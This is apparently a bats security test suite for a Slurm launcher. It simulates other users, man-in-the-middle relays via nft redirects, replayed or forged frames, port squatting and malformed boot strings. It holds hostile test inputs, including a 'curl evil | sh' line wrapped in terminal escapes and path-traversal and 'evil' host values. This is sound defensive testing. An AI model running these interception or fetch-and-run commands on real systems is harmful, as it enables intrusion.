#!/usr/bin/env bats
# What other users of the same hosts, others on the network and an enemy in the
# middle of it get out of a launch: nothing.  Alice's launches, bob's attempts.

# shellcheck disable=SC2030,SC2031,SC2154  # set by functions of the helpers

load launch
load floods

setup_file() {
    suite_up --nodes 4 --slurm-conf SlurmdTimeout=120 --srun-port-range 20000-20999
}
teardown() {
    stop_relay
    cluster_mend
    if [[ ${background-} ]]; then wait "$background" || true; fi
}

uid_of() { as_user "$1" id -u; }

@test "other users cannot take part in a launch" {
    local login alice bob kind where
    login=$(cluster addr hvdlogin eth0)
    alice=$(uid_of alice) bob=$(uid_of bob)
    hold hvdn4 srun --hvd -N4 hvd-selftest --quick
    wait_for 10 learn_session
    for where in hvdn2 hvdlogin; do
        [[ $(peer bob $where auth "$login" "$port" own) == "refused: the peer does not know this launch" ]]
        # If he knew the session, it would be of no use.
        tries() { peer bob $where auth "$login" "$port" "$1" --session "$session"; }
        [[ $(tries own) == "refused: the peer is uid $bob, this launch belongs to uid $alice" ]]
        for kind in garbage empty; do
            [[ $(tries $kind) == "refused: munge refuses the peer's credential: "* ]]
        done
        [[ $(tries none) == "refused: a message lacks the string \"cred\"" ]]
        [[ $(tries long) == "refused: \"cred\" is longer than 4096 bytes" ]]
    done
    # The right user, but a credential that was made for anything else.
    [[ $(peer alice hvdn2 auth "$login" "$port" unbound --session "$session") == "refused: the peer's credential was made for another connection" ]]
    go_on
    selftest_ok 4 4
    has "refused a connection from $(cluster addr hvdn2 eth0): the peer is uid $bob"
}

@test "the driver asks munge about nobody who does not know the launch" {
    local munged
    hold hvdn2 hvdrun -N2 -w 'hvdn[1-2]' --start-timeout=60 hvd-selftest --quick
    wait_for 10 learn_session
    # It would wait for this one.
    munged=$(as_root hvdlogin pgrep -x munged)
    as_root hvdlogin kill -STOP "$munged"
    run cluster exec --user bob --host hvdn1 -- timeout 5 python3 "$PEER" auth "$(cluster addr hvdlogin eth0)" "$port" garbage
    as_root hvdlogin kill -CONT "$munged"
    [[ $output == "refused: the peer does not know this launch" ]] || { echo "$output" && false; }
    go_on
    selftest_ok 2 2
}

# Processor time of munged on the login host, in hundredths of a second.
munged_ticks() { as_root hvdlogin sh -c "awk '{ print \$14 + \$15 }' /proc/\$(pgrep -x munged)/stat"; }

@test "credentials of another user without end cost munged nothing" {
    local before sent
    hold hvdn4 hvdrun -N4 --start-timeout=60 hvd-selftest --quick
    before=$(munged_ticks)
    sent=$(peer bob hvdn2 credentials "$(cluster addr hvdlogin eth0)" "$port" 0.1.0 --seconds 5 | sed -n 's/ credentials//p')
    echo "$sent credentials, $(($(munged_ticks) - before)) ticks"
    # Opened, a hundred take one.
    ((sent >= 1000 && $(munged_ticks) - before < 5))
    go_on
    selftest_ok 4 4
    assert_no_leftovers
}

@test "a host's agent has nothing for another user's process, and one of alice's is answered" {
    local ask='
import array, os, socket, struct, sys
names = {line.split()[7] for line in open("/proc/net/unix") if "@hvd-agent." in line}
assert names, "no agent listens here"
for name in names:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.settimeout(10)
    s.connect("\0" + name[1:])
    try:
        s.send(struct.pack("=IIiiq", 4, 0, os.getpid(), 0, 0))  # ASK, of local rank 0
        note, fds, _, _ = s.recvmsg(64, socket.CMSG_SPACE(8))
    except (BrokenPipeError, ConnectionResetError):
        note = b""
    print("told", struct.unpack("=I", note[:4])[0]) if note else print("told nothing")'
    begin launch hvdrun -N2 -n4 --ntasks-per-node=2 -w 'hvdn[1-2]' bash -c 'echo ready; sleep 50'
    says_times 10 4 ready
    run cluster exec --host hvdn1 --user bob -- python3 -c "$ask"
    [[ $output == "told nothing" ]] || { echo "$output" && false; }
    run cluster exec --host hvdn1 --user alice -- python3 -c "$ask"
    [[ $output == "told 5" ]] || { echo "$output" && false; } # PLAN
    on_login scancel --user=alice
    ended 15
}

# heard task|driver signed|unsigned: what the process in the middle heard from that side, a line for each message.
heard() {
    python3 -c '
import json, sys
for line in open(sys.argv[1]):
    event = json.loads(line)
    if event["from"] == sys.argv[2] and event["signed"] == (sys.argv[3] == "signed"):
        print(event["t"], event["opened"])' "$BATS_TEST_TMPDIR/log" "$1" "$2"
}

stop_relay() {
    if [[ ${relay-} ]]; then as_root hvdn2 kill "$relay" || true; fi
    relay=
}

# through_bob MODE CMD…: the launch, with all that hvdn2 says to the driver
# going through a process of bob's on that node, and its log.
through_bob() {
    local mode=$1 bob ready="$BATS_TEST_TMPDIR/ready" log
    shift
    bob=$(uid_of bob)
    # shellcheck disable=SC2016
    log=$(as_user bob bash -c 'mktemp -p "$HOME"')
    : >"$ready"
    hold hvdn2 "$@"
    wait_for 10 learn_session
    peer bob hvdn2 relay 5555 "$(cluster addr hvdlogin eth0)" "$port" "$mode" "$log" --session "$session" >"$ready" 3>&- &
    background=$!
    wait_for 5 grep -q ready "$ready"
    read -r _ relay <"$ready"
    as_root hvdn2 nft -f - <<NFT
add table inet test_middle
add chain inet test_middle out { type nat hook output priority -100; }
add rule inet test_middle out meta skuid != $bob tcp dport $port redirect to :5555
NFT
    go_on
    as_root hvdn2 nft delete table inet test_middle
    as_user bob cat "$log" >"$BATS_TEST_TMPDIR/log"
    stop_relay
    wait "$background" || true
    background=
}

@test "an enemy in the middle hears no secret, and cannot use what he heard" {
    through_bob pass srun --hvd -N4 hvd-selftest --quick
    selftest_ok 4 4
    # What passes by are credentials that he cannot open.
    [[ $(heard task unsigned) == "auth Unauthorized credential"* ]]
    [[ $(heard driver unsigned) == *"welcome Unauthorized credential"* ]]
    heard driver signed | grep -q plan
    # He says it all again, to a driver of the same user, from the same host.
    cp "$BATS_TEST_TMPDIR/log" "$BATS_TEST_TMPDIR/captured"
    chmod 644 "$BATS_TEST_TMPDIR/captured"
    hold hvdn4 srun --hvd -N4 hvd-selftest --quick
    run peer root hvdn2 replay "$(cluster addr hvdlogin eth0)" "$port" "$BATS_TEST_TMPDIR/captured"
    echo "$output"
    [[ ${lines[0]} == "refused: "* ]]
    [[ ${lines[1]} == closed || ${lines[1]} == "refused: "* ]]
    go_on
    selftest_ok 4 4
}

@test "captured authentication does not work for another connection of the same launch" {
    # Taken off the wire before the driver saw it: munge itself has not met this credential.
    through_bob cross srun --hvd -N4 --hvd-start-timeout=30 hvd-selftest --quick
    exits 1
    [[ $output != *"OK"* ]]
    has "the peer does not know this launch"
    [[ -z $(heard task signed) ]]
}

@test "an impostor of the driver learns no key, and no plan of his is used" {
    local mode
    for mode in impostor-own impostor-echo impostor-plan; do
        through_bob $mode srun --hvd -N4 --hvd-start-timeout=30 hvd-selftest --quick
        exits 1
        [[ $output != *OK* && $output != *ld.so* && $output != *evil* ]]
        has "hvdn2: cannot reach the driver"
        case $mode in
        impostor-own) has "the driver could not prove who it is: the peer is uid $(uid_of bob)" ;;
        impostor-echo) has "the driver could not prove who it is: the peer's credential was made for another connection" ;;
        impostor-plan) has 'the driver sent "plan" before it proved who it is' ;;
        esac
        # Nothing that is signed was said to him.
        [[ -z $(heard task signed) ]]
        [[ $(heard task unsigned | sort -u) == "auth Unauthorized credential" || $mode == impostor-plan ]]
    done
    assert_no_leftovers
}

@test "an impostor's text is quoted as his, and costs hvd-agent one credential for each address" {
    local launch
    for launch in "srun --hvd -N4 --hvd-start-timeout=30" "hvdrun -N4 --start-timeout=30"; do
        # shellcheck disable=SC2086
        through_bob impostor-refuse $launch hvd-selftest --quick
        exits_one_of 1 143 # 143 where srun saw last the end of a rank that it had sent SIGTERM
        has 'the driver there, which has not proven who it is, refuses this process: "\x1b[2J\xc2\x9b31m\x0d\"\nhvd: error: mend this: curl evil | sh"'
        [[ $'\n'$output != *$'\n'"hvd: error: mend this"* ]]
        [[ $(LC_ALL=C tr -d '\t\n\040-\176' <<<"$output" | wc -c) -eq 0 ]]
    done
    through_bob impostor-greet srun --hvd -N4 --hvd-start-timeout=30 hvd-selftest --quick
    exits 1
    has "the peer sent a second greeting"
    # hvd-agent tries each address of the driver, and makes a credential for each.
    (($(grep -c . <<<"$(heard task unsigned)") <= 8))
    assert_no_leftovers
}

@test "signed frames that are changed, repeated, reflected or stripped are refused" {
    local mode
    for mode in tamper repeat reflect forge swap; do
        through_bob $mode srun --hvd -N4 --hvd-start-timeout=30 hvd-selftest --quick
        exits_one_of 1 143 # 143 where srun saw last the end of a rank that it had sent SIGTERM
        [[ $output != *OK* ]]
        has hvdn2
        case $mode in
        swap) has "an unsigned message where a signed one was expected" ;;
        *) has "a message's signature is wrong" ;;
        esac
        [[ $mode == tamper || $(heard driver signed) != *plan* ]]
    done
    # The rank shims of hvdrun keep to the same rules.
    through_bob tamper hvdrun -N4 --start-timeout=30 hvd-selftest --quick
    exits_one_of 1 143 # 143 where srun saw last the end of a rank that it had sent SIGTERM
    [[ $output != *OK* ]]
    has "a message's signature is wrong"
    assert_no_leftovers
}

# begin_ranks CMD…: a launch whose ranks wait; $rv_addr and $rv_port are the address and port at which those of PyTorch
# meet.
begin_ranks() {
    on_login rm -f rendezvous
    # shellcheck disable=SC2016
    on_login "$@" bash -c '((RANK)) || echo $MASTER_ADDR $MASTER_PORT >rendezvous; exec sleep 100' \
        3>&- >"$BATS_TEST_TMPDIR/running" 2>&1 &
    background=$!
    wait_for 10 on_login test -s rendezvous
    read -r rv_addr rv_port < <(on_login cat rendezvous)
    [[ $rv_port ]]
}

end_ranks() {
    on_host hvdctl scancel --user=alice
    wait "$background" || true
    background=
}

@test "strangers neither read nor write the store of rank 0's host, which is open to the job's hosts only" {
    local with addr who
    for with in "srun --hvd" hvdrun; do
        # shellcheck disable=SC2086
        begin_ranks $with --exclusive -N3 -w 'hvdn[1-3]'
        [[ $rv_addr == "$(cluster addr hvdn1 ib0)" ]]
        [[ $(peer alice hvdn1 http "$rv_addr" "$rv_port" PUT /scope/key hello) == 200* ]]
        [[ $(peer alice hvdn3 http "$rv_addr" "$rv_port" GET /scope/key) == "200 hello" ]]
        # bob on the same host, at every address that it might have.
        for addr in "$rv_addr" 127.0.0.1 "$(cluster addr hvdn1 eth0)" "$(cluster addr hvdn1 ib0 6)" ::1 172.17.0.1; do
            [[ $(peer bob hvdn1 http "$addr" "$rv_port" GET /scope/key) =~ ^(403|Connection refused) ]]
            [[ $(peer bob hvdn1 http "$addr" "$rv_port" PUT /scope/key evil) =~ ^(403|Connection refused) ]]
            [[ $(peer bob hvdn1 http "$addr" "$rv_port" DELETE /scope/key) =~ ^(403|Connection refused) ]]
        done
        # root may do as he likes, but not by mistake.
        [[ $(peer root hvdn1 http "$rv_addr" "$rv_port" PUT /scope/key evil) == 403* ]]
        # From hosts that are not the job's, the launching one and a node of the cluster, no user may.
        for who in "bob hvdlogin" "alice hvdlogin" "bob hvdn4" "alice hvdn4"; do
            # shellcheck disable=SC2086
            [[ $(peer $who http "$(cluster addr hvdn1 eth0)" "$rv_port" GET /scope/key) == 403* ]]
            # shellcheck disable=SC2086
            [[ $(peer $who http "$(cluster addr hvdn1 eth0)" "$rv_port" PUT /scope/key evil) == 403* ]]
        done
        [[ $(peer alice hvdn2 http "$rv_addr" "$rv_port" GET /scope/key) == "200 hello" ]]
        end_ranks
    done
    assert_no_leftovers
}

# heard_by_bob: all that the ports of alice's launch on these hosts tell him.
heard_by_bob() {
    local host port
    for host in hvdlogin hvdn1 hvdn2; do
        # The ports of Slurm's own commands are not the launch's.
        for port in $(as_root "$host" ss -Htlnp | sed -nE '/"hvd/ s/.*[]*0-9]:([0-9]+) .*/\1/p'); do
            echo "$host:$port"
            peer bob "$host" hear 127.0.0.1 "$port"
        done
    done
}

@test "bob cannot take the names at which an agent and its ranks' shims meet" {
    local squatter took
    hold hvdn2 hvdrun -N2 -w 'hvdn[1-2]' hvd-selftest --quick
    # hvdn2 has no agent yet, and hvdn1 has one, whose name everybody there can read.
    wait_for 10 runs_on hvdn1 "hvd-agent shim"
    : >"$BATS_TEST_TMPDIR/squat"
    peer bob hvdn2 squat "$(cluster addr hvdlogin eth0)" "$port" >"$BATS_TEST_TMPDIR/squat" 3>&- &
    squatter=$!
    wait_for 10 grep -q ready "$BATS_TEST_TMPDIR/squat"
    read -r _ took <"$BATS_TEST_TMPDIR/squat"
    ((took >= 16))
    go_on
    as_root hvdn2 pkill -u bob -f "peer.py squat"
    wait "$squatter" || true
    selftest_ok 2 2
    has_not "another user"
    assert_no_leftovers
}

@test "bob cannot come between an agent and its driver at an address that both hosts have" {
    local with pid driver
    # docker0 of the nodes has it, too.
    as_root hvdlogin ip addr add 172.17.0.1/16 dev eth0
    for with in "srun --hvd -N2 -w hvdn[1-2]" "hvdrun -N2 -w hvdn[1-2]"; do
        # shellcheck disable=SC2086
        hold hvdn2 $with echo whole
        : >"$BATS_TEST_TMPDIR/between"
        peer bob hvdn2 between 172.17.0.1 "$(cluster addr hvdlogin eth0)" "$port" >"$BATS_TEST_TMPDIR/between" 3>&- &
        pid=$!
        wait_for 10 grep -q ready "$BATS_TEST_TMPDIR/between"
        # He greets before the driver does.
        driver=$(process hvdlogin hvd-driver) || driver=$(process hvdlogin hvdrun)
        as_root hvdlogin kill -STOP "$driver"
        (wait_for 10 grep -q met "$BATS_TEST_TMPDIR/between"; as_root hvdlogin kill -CONT "$driver") 3>&- &
        go_on
        as_root hvdn2 pkill -u bob -f "peer.py between"
        wait "$pid" || true
        cat "$BATS_TEST_TMPDIR/between"
        [[ $status -eq 0 && $(grep -c whole <<<"$output") -eq 2 ]]
        grep -q met "$BATS_TEST_TMPDIR/between"
    done
    as_root hvdlogin ip addr del 172.17.0.1/16 dev eth0
    assert_no_leftovers
}

@test "strangers learn neither the session nor the run id, of which torchrun makes keys" {
    local with id heard session
    for with in "srun --hvd -N2" "hvdrun -N2" "salloc -Q -N2 --no-kill hvdrun --max-restarts=1"; do
        # shellcheck disable=SC2016,SC2086
        begin on_login $with bash -c 'echo "id ${PET_RDZV_ID-} ${TORCHELASTIC_RUN_ID-}"; exec sleep 100'
        says_times 20 2 "id "
        # One, in both variables and on both hosts.
        id=$(grep -a "id " "$OUT" | grep -oE '[0-9a-f]{32}' | sort -u)
        [[ $id =~ ^[0-9a-f]{32}$ ]] || { cat "$OUT" && return 1; }
        heard=$(heard_by_bob)
        echo "$with: $id: $heard"
        learn_session
        [[ $heard == *nonce* && $heard != *"$id"* && $heard != *"$session"* ]]
        on_host hvdctl scancel --user=alice
        ended 20
    done
    assert_no_leftovers
}

# key_is_nowhere NAME: the driver, which is the process NAME, has told alice the key of the launch. It is looked for
# elsewhere; in files that have changed since $mark was made, for there may be many others.
key_is_nowhere() {
    local key host state
    key=$(peer alice hvdn2 granted "$(cluster addr hvdlogin eth0)" "$(driver_port)")
    [[ ${#key} -eq 64 ]]
    # It is the right one.
    run peer root hvdlogin search --memory "$1" <<<"$key"
    [[ $output == *'"hits": ["memory '*" ($1)\""* ]] || { echo "$output" && return 1; }
    state=$(cluster path)
    for host in hvdlogin hvdctl hvdn1 hvdn2 hvdn3 hvdn4; do
        run peer root $host search --memory sleep --since "$mark" /tmp /dev/shm /run /var/tmp "$state" <<<"$key"
        echo "$host: $output"
        [ "$status" -eq 0 ]
        [[ $output == *'"hits": []'* ]]
        looked=$output
    done
    # What can be found is found.
    as_user alice bash -c 'cat >planted' <<<"the key is $key"
    run peer root hvdlogin search --since "$mark" "$state" <<<"$key"
    as_user alice rm planted
    [[ $output == *'"hits": ["file '"$state"'/'*'/planted"]'* ]]
}

@test "no secret in environments, command lines, files or the ranks' memory" {
    local mark
    mark=$(cluster path)/mark
    : >"$mark"
    begin_ranks srun --hvd -N4
    key_is_nowhere hvd-driver
    # The ranks themselves were looked into.
    [[ $looked =~ \"memory\":\ [1-9] ]]
    end_ranks
    begin_ranks hvdrun -N4
    key_is_nowhere hvdrun
    end_ranks
}

@test "a tampered SLURM_HVD_BOOT is refused with a reason" {
    # Inherited from elsewhere it is of no account, with and without --hvd.
    run cluster exec -- env SLURM_HVD_BOOT=evil SLURM_HVD_STEP=1.0 srun --hvd -N2 hvd-selftest --quick
    echo "$output"
    selftest_ok 2 2
    gives 0 cluster exec -- env SLURM_HVD_BOOT=evil SLURM_HVD_STEP=1.0 srun -N2 true
    run cluster exec -- env SLURM_HVD_BOOT=evil hvdrun -N2 hvd-selftest --quick
    echo "$output"
    selftest_ok 2 2

    # hvd-agent refuses such a variable at once, with a reason.
    local good bad want
    good="2;session=0123456789abcdef0123456789abcdef;port=20001;timeout=3;id=munge;verbose=0;addr=$(cluster addr hvdlogin eth0)"
    while IFS='|' read -r -u 9 bad want; do
        echo "$bad"
        run cluster exec -- timeout 8 srun -N1 env "SLURM_HVD_BOOT=$bad" "$B/libexec/hvd/hvd-agent" shim -- touch evil
        echo "$output"
        [ "$status" -eq 1 ]
        has "$want"
    done 9<<EOT
|SLURM_HVD_BOOT is not of this release
evil|SLURM_HVD_BOOT is not of this release
${good/2;/1;}|SLURM_HVD_BOOT is not of this release
2;|SLURM_HVD_BOOT is not complete
${good/port=20001/port=0}|SLURM_HVD_BOOT is damaged at "port"
${good/port=20001/port=99999}|SLURM_HVD_BOOT is damaged at "port"
${good/port=20001/port=}|SLURM_HVD_BOOT is damaged at "port"
${good/session=0123/session=}|SLURM_HVD_BOOT is damaged at "session"
${good/session=0123/session=/../}|SLURM_HVD_BOOT is damaged at "session"
${good/timeout=3/timeout=-1}|SLURM_HVD_BOOT is damaged at "timeout"
${good/timeout=3/timeout=nan}|SLURM_HVD_BOOT is damaged at "timeout"
${good/verbose=0/verbose}|SLURM_HVD_BOOT is damaged at "verbose"
${good%addr=*}addr=evil.example.org|SLURM_HVD_BOOT is damaged at "addr"
${good%addr=*}addr=$(printf '10.0.0.1,%.0s' {1..17})|SLURM_HVD_BOOT is damaged at "addr"
${good/id=munge/id=none}|unknown kind of identity "none"
${good/id=munge/id=fd:9}|cannot read the launch's key from descriptor 9
$good;x=$(printf 'x%.0s' {1..2048})|SLURM_HVD_BOOT is longer than 2048 bytes
$good|cannot reach the driver at port 20001
EOT
    gives 1 on_login test -e evil
    assert_no_leftovers
}

SILENT_DRIVER='import os, socket, subprocess, sys
driver = socket.create_server(("", 5555))
job = os.environ["SLURM_JOB_ID"]
print("job", job, flush=True)
os.environ.update(SLURM_HVD_STEP=job + ".0", SLURM_HVD_BOOT=sys.argv[1])
sys.exit(subprocess.call(["srun", "--overcommit", "-n2", "true"]))'

# with_boot BOOT: alice's step of two tasks on hvdn1, with a boot text of her own making, in which port 5555 stands for a
# driver that says nothing. $job is its job.
with_boot() {
    begin on_login salloc -Q -N1 -w hvdn1 python3 -c "$SILENT_DRIVER" "$1"
    says 10 "job "
    job=$(sed -n 's/^job //p' "$OUT")
    wait_for 10 runs_on hvdn1 "hvd-agent plan" || { cat "$OUT" && return 1; }
}
end_job() {
    on_host hvdctl scancel "$job"
    ended 20
}
has_taken() { [[ $(peer "${@:2}") -eq $1 ]]; }

@test "ports that a user asks for are bound as this user" {
    local boot job before
    boot="2;session=0123456789abcdef0123456789abcdef;port=5555;timeout=60;id=munge;addr=$(cluster addr hvdlogin eth0)"
    # Those that are root's own.
    before=$(peer root hvdn1 taken 1 1023)
    with_boot "$boot;range=600-1023;ports=8+8"
    [[ $(peer root hvdn1 taken 1 1023) -eq $before ]]
    end_job
    # Others: the kernel shares them with sockets of the same user, and those are alice's. The relay of so few hosts has
    # a port on loopback only.
    with_boot "$boot;range=21000-21063;ports=8+8;relays=32"
    wait_for 10 has_taken 24 root hvdn1 taken 21000 21063
    [[ $(peer root hvdn1 taken 21000 21063 port) -eq 24 ]]
    [[ $(peer alice hvdn1 taken 21000 21063 port) -eq 0 ]]
    end_job
    assert_no_leftovers
}

@test "a port that is reserved for JAX cannot be had by another user" {
    local with port sharing
    for with in "srun --hvd -N2" "hvdrun -N2"; do
        # shellcheck disable=SC2016,SC2086
        begin on_login $with bash -c 'echo "at $JAX_COORDINATOR_ADDRESS"; exec sleep 100'
        says_times 20 2 "at 10."
        port=$(sed -nE 's/^at .*:([0-9]+)$/\1/p' "$OUT" | sort -u)
        [[ $port =~ ^[0-9]+$ ]]
        for sharing in "" addr port "addr port"; do
            # shellcheck disable=SC2086
            [[ $(peer bob hvdn1 taken "$port" "$port" $sharing) -eq 1 ]] || { echo "$with: bob has it with '$sharing'" && return 1; }
        done
        # As gRPC's servers do.
        [[ $(peer alice hvdn1 taken "$port" "$port" addr port) -eq 0 ]]
        on_host hvdctl scancel --user=alice
        ended 20
    done
    assert_no_leftovers
}

@test "another launch's driver is not taken for one's own" {
    hold hvdn4 srun --hvd -N4 hvd-selftest --quick
    run cluster exec -- timeout 8 srun -N1 -w hvdn2 --overlap env \
        "SLURM_HVD_BOOT=2;session=0123456789abcdef0123456789abcdef;port=$port;timeout=3;id=munge;addr=$(cluster addr hvdlogin eth0)" \
        "$B/libexec/hvd/hvd-agent" shim -- touch evil
    echo "$output"
    has "the driver there belongs to another launch"
    go_on
    selftest_ok 4 4
}

@test "a key file that others can read, or that is none, is refused" {
    local boot="2;session=0123456789abcdef0123456789abcdef;port=20001;timeout=3;addr=127.0.0.1;id=file:" mode
    # shellcheck disable=SC2016
    on_login bash -c 'umask 077; printf "%064d\n" 7 >key; ln -s key link; : >empty; echo "not a key at all" >text; mkfifo pipe; cp key open'
    with_key_file() {
        run cluster exec -- env "SLURM_HVD_BOOT=$boot$1" SLURM_PROCID=0 SLURM_LOCALID=0 SLURM_NODEID=0 SLURM_STEP_NUM_NODES=1 \
            SLURM_STEP_NUM_TASKS=1 SLURMD_NODENAME=hvdlogin SLURM_GTIDS=0 timeout 8 "$B/libexec/hvd/hvd-agent" shim -- true
        echo "$1: $output"
        [ "$status" -eq "${2:-1}" ]
    }
    for mode in 644 640 604 660 620 602; do
        on_login chmod $mode open
        with_key_file open
        has "the key file open is open to others" "chmod 600 open"
    done
    with_key_file link
    has "cannot open the key file link: Too many levels of symbolic links"
    with_key_file empty 2
    has "the key file empty holds neither 64 hex digits nor 32 bytes"
    with_key_file text 2
    has "the key file text holds neither 64 hex digits nor 32 bytes"
    with_key_file nowhere
    has "cannot open the key file nowhere: No such file or directory"
    # Somebody else's, though he lets her read it: he would know the key.
    as_user bob bash -c 'printf "%064d\n" 7 >/tmp/bobs-key; chmod 644 /tmp/bobs-key'
    with_key_file /tmp/bobs-key
    has "the key file /tmp/bobs-key is open to others"
    as_user bob rm -f /tmp/bobs-key
    # Nothing is written at the other end: it must not be waited for.
    with_key_file pipe 2
    has "the key file pipe is not a regular file"
    # With a good one the next thing is to look for the driver.
    with_key_file key
    has "cannot reach the driver at port 20001"
    on_login rm -f key link empty text pipe open
}
